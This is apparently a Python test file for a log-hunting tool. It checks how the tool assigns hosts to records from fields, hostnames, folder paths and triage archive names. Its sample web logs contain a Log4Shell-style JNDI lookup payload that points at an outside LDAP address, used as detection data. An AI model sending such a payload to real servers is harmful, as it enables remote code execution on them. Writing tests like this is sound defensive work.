"""Which host a record is from: what it says itself, what the folder says when that is asked for, and never what a client sent."""
import base64
import collections
import gzip
import io
import json
import re
import tarfile

from _breakwater import Checks, Sandbox

checks = Checks()
ACCESS = b'203.0.113.5 - - [19/Jul/2022:03:10:51 +0000] "GET /?q=${jndi:ldap://203.0.113.5/a} HTTP/1.1" 200 12 "-" "-"\n'
SYSLOG = b"<86>2022-07-19T03:10:51Z db01 sshd[7]: Accepted password for ann from 192.0.2.1 port 9 ssh2\n"
HTTP = (b"#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\thttp\n"
        b"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tmethod\thost\turi\n"
        b"#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tstring\n"
        b"1658200251.0\tC1\t203.0.113.5\t1\t192.0.2.9\t80\tGET\tchosen.example\t/?q=${jndi:ldap://203.0.113.5/a}\n")
NGINX_JSON = (b'{"time":"2022-07-19T03:10:51Z","remote_addr":"203.0.113.5","host":"chosen.example",'
              b'"request":"GET / HTTP/1.1","status":200}\n')


def hosts(result):
    return sorted({json.loads(line).get("host", {}).get("name", "") for line in result.out.splitlines()})


def counted(result):
    count = collections.Counter()
    for row in map(json.loads, result.out.splitlines()):
        count[row.get("host", "")] += row["count"]
    return dict(count)


def check_clients(sandbox):
    sandbox.file("clients/http.log", HTTP)
    sandbox.file("clients/nginx.json", NGINX_JSON)
    result = sandbox.run("stats", "clients", "--by", "host", "--json")
    checks.check("what a client sent is no host", counted(result) == {"": 2}, result)
    result = sandbox.run("hunt", "clients", "-q", "--json")
    checks.check("and no finding has it", hosts(result) == [""], result)
    table = sandbox.run("stats", "clients", "--by", "host").out.decode()
    checks.check("a table has a dash", table.count(" -") == 2, table)


def check_sensor(sandbox):
    """CrowdStrike's records have the name of the machine, or its number alone; other records with an `aid` are no machine's."""
    start = {"timestamp": "1658200251123", "event_simpleName": "ProcessRollup2", "event_platform": "Win", "aid": "0123456789abcdef0123456789abcdef"}
    sandbox.file("falcon/data.jsonl", b"".join(json.dumps(r).encode() + b"\n" for r in (
        start, {**start, "ComputerName": "WS01"}, {"timestamp": "1658200251123", "aid": "7", "action": "x", "user": "ann"})))
    result = sandbox.run("stats", "falcon", "--by", "host", "--json")
    checks.check("a sensor's machine by name or number", counted(result) == {start["aid"]: 1, "WS01": 1, "": 1}, result)


def meta_of(sandbox, name):
    data = re.search(r'<script type="application/gzip" data-kind="meta"[^>]*>([A-Za-z0-9+/=]*)</script>', sandbox.read(name).decode())
    return json.loads(gzip.decompress(base64.b64decode(data[1])))


def check_names(sandbox):
    """A host under a short and a full name is one on the page, too."""
    login = b"<86>2022-07-19T03:10:51Z %s sshd[7]: Accepted password for root from 203.0.113.5 port 9 ssh2\n"
    for name in (b"fs01", b"FS01.harbour.example"):
        sandbox.file("names/" + name.decode() + ".log", login % name)
    sandbox.run("hunt", "names", "-q", "--html=names.html")
    page = sandbox.read("names.html").decode()
    blocks = {kind: json.loads(gzip.decompress(base64.b64decode(data))) for kind, data in re.findall(
        r'<script type="application/gzip" data-kind="(index|meta)"[^>]*>([A-Za-z0-9+/=]*)</script>', page)}
    checks.check("the page has one host", blocks["index"]["hosts"] == ["FS01.harbour.example"], blocks["index"]["hosts"])
    seen = {h["name"]: h["of"] for h in blocks["meta"]["seen_hosts"]}
    checks.check("and knows whose the other name is", seen == {name: "FS01.harbour.example" for name in ("fs01", "FS01.harbour.example")}, seen)


def check_path(sandbox):
    sandbox.file("case/web01/var/log/nginx/access.log", ACCESS)
    sandbox.file("case/web01/var/log/auth.log", SYSLOG)
    sandbox.file("case/loose/access.log", ACCESS)
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as tar:
        info = tarfile.TarInfo("var/log/nginx/access.log")
        info.size = len(ACCESS)
        tar.addfile(info, io.BytesIO(ACCESS))
    sandbox.file("case/web02.tar.gz", packed.getvalue())
    none = sandbox.run("stats", "case", "--by", "host", "--json")
    checks.check("nothing is made up by default", counted(none) == {"": 3, "db01": 1}, none)
    hint = b"--host-from=path takes a folder's name"
    checks.check("findings without a host say what names it", hint in sandbox.run("hunt", "case/loose").out)
    checks.check("but not where it was tried", hint not in sandbox.run("hunt", "case/loose", "--host-from=path").out)
    checks.check("nor where records name theirs", hint not in sandbox.run("hunt", "names").out)
    sandbox.run("hunt", "case/loose", "-q", "--html=loose.html")
    checks.check("the page says it, too", meta_of(sandbox, "loose.html").get("nameless", "").encode().endswith(hint))
    checks.check("nor with none", sandbox.run("stats", "case", "--by", "host", "--json", "--host-from", "none").out == none.out)
    path = sandbox.run("stats", "case", "--by", "host", "--json", "--host-from", "path")
    checks.check("--host-from path: folders and archives", counted(path) == {"": 1, "db01": 1, "web01": 1, "web02": 1}, path)
    hunt = sandbox.run("hunt", "case", "-q", "--json", "--host-from=path")
    checks.check("findings have it", {"web01", "web02"} <= set(hosts(hunt)), hunt)
    some = sandbox.run("hunt", "case", "-q", "--json", "--host-from=path", "--host", "web02")
    checks.check("and --host asks for it", hosts(some) == ["web02"], some)
    dump = sandbox.run("dump", "case", "--host-from=path", "--host", "web0?")
    checks.check("dump, too", len(dump.out.splitlines()) == 2, dump)
    search = sandbox.run("search", "jndi", "case", "--host-from=path", "--host=web01")
    checks.check("and search", b"web01" in search.out and b"web02" not in search.out, search)
    told = sandbox.run("hunt", "case/web01", "--host-from=path").out.decode()
    checks.check("the summary says that it was assumed", "host.from_path" in told, told)
    checks.check("and its commands find the records again", "--host-from=path" in told, told)
    for jobs in ("1", "3"):
        same = sandbox.run("stats", "case", "--by", "host", "--json", "--host-from", "path", "--jobs", jobs)
        checks.check(f"the same with --jobs {jobs}", same.out == path.out, same)
    for name in ("hunt", "dump", "stats", "logons"):
        result = sandbox.run(name, "case", "--host-from", "folder")
        checks.check(f"{name}: what else is said is a usage error", result.code == 2 and b"want none or path" in result.err, result)


def check_collections(sandbox):
    """What triage tools named for a host is of it, without an option."""
    names = {"uac-web03-linux-20220719101000.tar.gz": "[root]/var/log/nginx/access.log",
             "Collection-WEB04-2022-07-19T10_00_00Z.tar.gz": "uploads/auto/D%3A/logs/access.log",
             "sosreport-db05-2022-07-19-abcdefg.tar.gz": "sosreport-db05-2022-07-19-abcdefg/x/access.log",
             "uac-web06.tar.gz": "[root]/access.log"}
    for name, member in names.items():
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode="w:gz") as tar:
            for path, content in ((member, ACCESS), ("auth.log", SYSLOG)):
                info = tarfile.TarInfo(path)
                info.size = len(content)
                tar.addfile(info, io.BytesIO(content))
        sandbox.file("triage/" + name, packed.getvalue())
    got = sandbox.run("stats", "triage", "--by", "host", "--json")
    checks.check("collections name their host, records that do keep it",
                 counted(got) == {"": 1, "WEB04": 1, "db01": 4, "db05": 1, "web03": 1}, got)
    told = sandbox.run("hunt", "triage").out.decode()
    checks.check("and it is said", "host.from_path" in told, told)


sandbox = Sandbox()
check_clients(sandbox)
check_sensor(sandbox)
check_names(sandbox)
check_path(sandbox)
check_collections(sandbox)
checks.exit()
